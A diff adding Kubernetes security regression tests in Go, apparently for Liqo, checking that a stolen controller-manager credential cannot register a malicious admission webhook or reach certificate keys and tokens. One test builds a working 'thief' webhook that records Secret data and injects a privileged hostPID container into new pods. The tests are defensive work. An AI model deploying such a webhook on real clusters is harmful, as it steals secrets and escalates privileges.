@@ -1,11 +1,22 @@
 package greed
 
 import (
+	"bytes"
 	"context"
+	"encoding/json"
+	"encoding/pem"
 	"fmt"
+	"maps"
+	"net/http"
+	"net/http/httptest"
+	"slices"
 	"strings"
+	"sync/atomic"
 	"testing"
+	"time"
 
+	admissionv1 "k8s.io/api/admission/v1"
+	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
 	appsv1 "k8s.io/api/apps/v1"
 	authenticationv1 "k8s.io/api/authentication/v1"
 	corev1 "k8s.io/api/core/v1"
@@ -111,6 +122,206 @@ func TestTheManagerMakesNoPrivilegedPods(t *testing.T) {
 		t.Errorf("a privileged pod is refused with %v", err)
 	}
 	_ = env.Milan.Client.Delete(t.Context(), &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: name}})
+}
+
+// T37: API servers ask webhooks about what the configuration liqo-webhook says, in all namespaces, and do what they answer. Admission does not
+// look at changes of it, so no policy can hold whoever may patch it. The stolen credential of a controller manager hears of no Secrets
+// elsewhere by it, and changes no pods of kube-system.
+func TestTheManagerHearsOfNoSecretsElsewhere(t *testing.T) {
+	env.Peered(t)
+	manager := stolenManager(t)
+	var heard atomic.Value
+	thief := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		review := &admissionv1.AdmissionReview{}
+		_ = json.NewDecoder(r.Body).Decode(review)
+		answer := &admissionv1.AdmissionResponse{UID: review.Request.UID, Allowed: true}
+		switch review.Request.Kind.Kind {
+		case "Secret":
+			secret := &corev1.Secret{}
+			_ = json.Unmarshal(review.Request.Object.Raw, secret)
+			heard.Store(fmt.Sprintf("%s/%s by %s: %s", review.Request.Namespace, secret.Name, review.Request.UserInfo.Username, secret.Data))
+		case "Pod":
+			answer.PatchType, answer.Patch = ptr.To(admissionv1.PatchTypeJSONPatch), []byte(`[{"op":"add","path":"/spec/hostPID","value":true},`+
+				`{"op":"add","path":"/spec/containers/-","value":{"name":"thief","image":"thief","securityContext":{"privileged":true}}}]`)
+		}
+		_ = json.NewEncoder(w).Encode(&admissionv1.AdmissionReview{TypeMeta: review.TypeMeta, Response: answer})
+	}))
+	defer thief.Close()
+	// What it looks like is no secret: whoever installed the same chart knows it.
+	configuration := &admissionregistrationv1.MutatingWebhookConfiguration{}
+	fixture.Must(t, "reading the webhooks", env.Milan.Client.Get(t.Context(), client.ObjectKey{Name: "liqo-webhook"}, configuration))
+	before := configuration.DeepCopy()
+	configuration.Webhooks = append(configuration.Webhooks, admissionregistrationv1.MutatingWebhook{
+		Name: "thief.mutate.liqo.io", AdmissionReviewVersions: []string{"v1"}, TimeoutSeconds: ptr.To[int32](2),
+		SideEffects: ptr.To(admissionregistrationv1.SideEffectClassNone), FailurePolicy: ptr.To(admissionregistrationv1.Ignore),
+		ClientConfig: admissionregistrationv1.WebhookClientConfig{URL: &thief.URL,
+			CABundle: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: thief.Certificate().Raw})},
+		Rules: []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create},
+			Rule: admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"secrets", "pods"}}}},
+		// Only so that tests beside this one are left alone.
+		ObjectSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"proof": "t37"}},
+	})
+	if err := manager.Patch(t.Context(), configuration, client.MergeFrom(before)); err != nil {
+		if !apierrors.IsForbidden(err) {
+			t.Errorf("the patch is refused with %v", err)
+		}
+		return
+	}
+	defer func() {
+		live := &admissionregistrationv1.MutatingWebhookConfiguration{}
+		_ = env.Milan.Client.Get(context.WithoutCancel(t.Context()), client.ObjectKeyFromObject(before), live)
+		with := live.DeepCopy()
+		live.Webhooks = slices.DeleteFunc(live.Webhooks, func(w admissionregistrationv1.MutatingWebhook) bool { return w.Name == "thief.mutate.liqo.io" })
+		_ = env.Milan.Client.Patch(context.WithoutCancel(t.Context()), live, client.MergeFrom(with))
+	}()
+	deadline := time.Now().Add(20 * time.Second)
+	for heard.Load() == nil && time.Now().Before(deadline) {
+		secret := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: metav1.NamespaceSystem, Name: "bootstrap", Labels: map[string]string{"proof": "t37"}},
+			StringData: map[string]string{"password": "of the administrator"}}
+		fixture.Must(t, "the administrator makes a Secret", env.Milan.Client.Create(t.Context(), secret, client.DryRunAll))
+		time.Sleep(200 * time.Millisecond)
+	}
+	if heard.Load() != nil {
+		t.Errorf("the controller manager's credential hears of %v", heard.Load())
+	}
+	pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: metav1.NamespaceSystem, Name: "dns", Labels: map[string]string{"proof": "t37"}},
+		Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "a", Image: "b"}}}}
+	env.Milan.AwaitServiceAccount(t, metav1.NamespaceSystem)
+	fixture.Must(t, "the administrator makes a pod", env.Milan.Client.Create(t.Context(), pod, client.DryRunAll))
+	if pod.Spec.HostPID || len(pod.Spec.Containers) > 1 {
+		t.Errorf("the controller manager's credential puts a privileged container of its own into a pod that the administrator makes in kube-system: %v",
+			pod.Spec.Containers[len(pod.Spec.Containers)-1].Name)
+	}
+}
+
+// T37: the stolen credential of a controller manager answers Liqo's webhooks, and that is all: it reads, changes, makes and removes no webhook
+// configuration, and gets neither the authority's key nor the account of the process that keeps it.
+func TestTheManagerHasNoWayToTheWebhooks(t *testing.T) {
+	env.Peered(t)
+	manager := stolenManager(t)
+	mutating := &admissionregistrationv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "liqo-webhook"}}
+	validating := &admissionregistrationv1.ValidatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "liqo-webhook"}}
+	secret := func(name string) *corev1.Secret {
+		return &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: fixture.Namespace, Name: name}}
+	}
+	served := secret("liqo-webhook-certs")
+	fixture.Must(t, "reading what it serves with", manager.Get(t.Context(), client.ObjectKeyFromObject(served), served))
+	if _, there := served.Data["ca.key"]; there || len(served.Data["tls.key"]) == 0 {
+		t.Errorf("it serves with %v", slices.Sorted(maps.Keys(served.Data)))
+	}
+	nothing := client.RawPatch(types.MergePatchType, []byte(`{}`))
+	for what, try := range map[string]func(ctx context.Context) error{
+		"reads mutating webhooks": func(ctx context.Context) error {
+			return manager.Get(ctx, client.ObjectKeyFromObject(mutating), mutating.DeepCopy())
+		},
+		"reads validating webhooks": func(ctx context.Context) error {
+			return manager.Get(ctx, client.ObjectKeyFromObject(validating), validating.DeepCopy())
+		},
+		"patches validating webhooks": func(ctx context.Context) error {
+			return manager.Patch(ctx, validating.DeepCopy(), nothing, client.DryRunAll)
+		},
+		"updates mutating webhooks":   func(ctx context.Context) error { return manager.Update(ctx, mutating.DeepCopy(), client.DryRunAll) },
+		"deletes mutating webhooks":   func(ctx context.Context) error { return manager.Delete(ctx, mutating.DeepCopy(), client.DryRunAll) },
+		"deletes validating webhooks": func(ctx context.Context) error { return manager.Delete(ctx, validating.DeepCopy(), client.DryRunAll) },
+		"makes webhooks of its own": func(ctx context.Context) error {
+			return manager.Create(ctx, &admissionregistrationv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "thief"}}, client.DryRunAll)
+		},
+		"reads the authority's key": func(ctx context.Context) error {
+			return manager.Get(ctx, client.ObjectKeyFromObject(secret("liqo-webhook-authority")), secret(""))
+		},
+		"lists Secrets beside its own": func(ctx context.Context) error {
+			return manager.List(ctx, &corev1.SecretList{}, client.InNamespace(fixture.Namespace))
+		},
+		"changes the certificate": func(ctx context.Context) error {
+			return manager.Patch(ctx, secret("liqo-webhook-certs"), nothing, client.DryRunAll)
+		},
+		"makes a Secret for the keeper's token": func(ctx context.Context) error {
+			token := secret("thief")
+			token.Type, token.Annotations = corev1.SecretTypeServiceAccountToken, map[string]string{corev1.ServiceAccountNameKey: "liqo-certificates"}
+			return manager.Create(ctx, token, client.DryRunAll)
+		},
+		"asks for the keeper's token": func(ctx context.Context) error {
+			_, err := manager.Kube.CoreV1().ServiceAccounts(fixture.Namespace).CreateToken(ctx, "liqo-certificates", &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
+			return err
+		},
+		"gives itself the keeper's role": func(ctx context.Context) error {
+			return manager.Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: fixture.Unique("thief")},
+				RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "liqo-certificates"},
+				Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Namespace: fixture.Namespace, Name: "liqo-controller-manager"}}}, client.DryRunAll)
+		},
+		"runs a pod as the keeper": func(ctx context.Context) error {
+			return manager.Create(ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: fixture.Namespace, Name: "thief"}, Spec: corev1.PodSpec{
+				ServiceAccountName: "liqo-certificates", Containers: []corev1.Container{{Name: "a", Image: "b"}}}}, client.DryRunAll)
+		},
+	} {
+		if err := try(t.Context()); err == nil {
+			t.Errorf("the controller manager's credential %s", what)
+		} else if !apierrors.IsForbidden(err) {
+			t.Errorf("%s: %v", what, err)
+		}
+	}
+}
+
+// T37: who keeps the certificate of the webhooks may do that, and nothing else: other Secrets, other webhooks and other objects are none of its.
+func TestTheKeeperOfCertificatesKeepsNothingElse(t *testing.T) {
+	env.Peered(t)
+	keeper := env.Milan.As(t, "system:serviceaccount:liqo:liqo-certificates", "system:serviceaccounts", "system:serviceaccounts:liqo")
+	others := &admissionregistrationv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: fixture.Unique("others")}}
+	theirs := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: fixture.Namespace, Name: fixture.Unique("theirs")}}
+	for _, o := range []client.Object{others, theirs} {
+		fixture.Must(t, "preparing the provider", env.Milan.Client.Create(t.Context(), o))
+		defer func() { _ = env.Milan.Client.Delete(context.WithoutCancel(t.Context()), o) }()
+	}
+	nothing := client.RawPatch(types.MergePatchType, []byte(`{}`))
+	secret := func(name string, kind corev1.SecretType) *corev1.Secret {
+		return &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: fixture.Namespace, Name: name, Annotations: map[string]string{corev1.ServiceAccountNameKey: "liqo-controller-manager"}}, Type: kind}
+	}
+	for what, try := range map[string]func(ctx context.Context) error{
+		"patches the webhooks of others": func(ctx context.Context) error {
+			return keeper.Patch(ctx, others.DeepCopy(), nothing, client.DryRunAll)
+		},
+		"lists the webhooks of others": func(ctx context.Context) error {
+			return keeper.List(ctx, &admissionregistrationv1.MutatingWebhookConfigurationList{})
+		},
+		"removes Liqo's webhooks": func(ctx context.Context) error {
+			return keeper.Delete(ctx, &admissionregistrationv1.ValidatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "liqo-webhook"}}, client.DryRunAll)
+		},
+		"makes webhooks": func(ctx context.Context) error {
+			return keeper.Create(ctx, &admissionregistrationv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "more"}}, client.DryRunAll)
+		},
+		"reads a Secret of Liqo": func(ctx context.Context) error {
+			return keeper.Get(ctx, client.ObjectKeyFromObject(theirs), theirs.DeepCopy())
+		},
+		"changes a Secret of Liqo": func(ctx context.Context) error { return keeper.Update(ctx, theirs.DeepCopy(), client.DryRunAll) },
+		"lists the Secrets elsewhere": func(ctx context.Context) error {
+			return keeper.List(ctx, &corev1.SecretList{}, client.InNamespace("kube-system"))
+		},
+		"makes a Secret for a token": func(ctx context.Context) error {
+			return keeper.Create(ctx, secret("thief", corev1.SecretTypeServiceAccountToken), client.DryRunAll)
+		},
+		"makes a Secret for a token by the name of its own": func(ctx context.Context) error {
+			return keeper.Create(ctx, secret("liqo-webhook-certs", corev1.SecretTypeServiceAccountToken), client.DryRunAll)
+		},
+		"reads a ConfigMap of Liqo": func(ctx context.Context) error {
+			return keeper.Get(ctx, client.ObjectKey{Namespace: fixture.Namespace, Name: "liqo-clusterid-configmap"}, &corev1.ConfigMap{})
+		},
+		"lists pods": func(ctx context.Context) error { return keeper.List(ctx, &corev1.PodList{}) },
+	} {
+		if err := try(t.Context()); err == nil {
+			t.Errorf("the keeper's credential %s", what)
+		} else if !apierrors.IsForbidden(err) {
+			t.Errorf("%s: %v", what, err)
+		}
+	}
+	// What both serve with is back at once when somebody removes it, and API servers trust it.
+	served := secret("liqo-webhook-certs", "")
+	fixture.Must(t, "reading the certificate", env.Milan.Client.Get(t.Context(), client.ObjectKeyFromObject(served), served))
+	fixture.Must(t, "removing the certificate", env.Milan.Client.Delete(t.Context(), served.DeepCopy()))
+	fixture.Await(t, fixture.Patience, "the certificate to be back", func(ctx context.Context) (bool, string) {
+		live := &corev1.Secret{}
+		err := env.Milan.Client.Get(ctx, client.ObjectKeyFromObject(served), live)
+		return err == nil && maps.EqualFunc(served.Data, live.Data, bytes.Equal), fmt.Sprint(err)
+	})
 }
 
 // T38: a stolen controller manager changes and removes nothing that is not Liqo's: no volumes, no bindings, no order of who is served first.
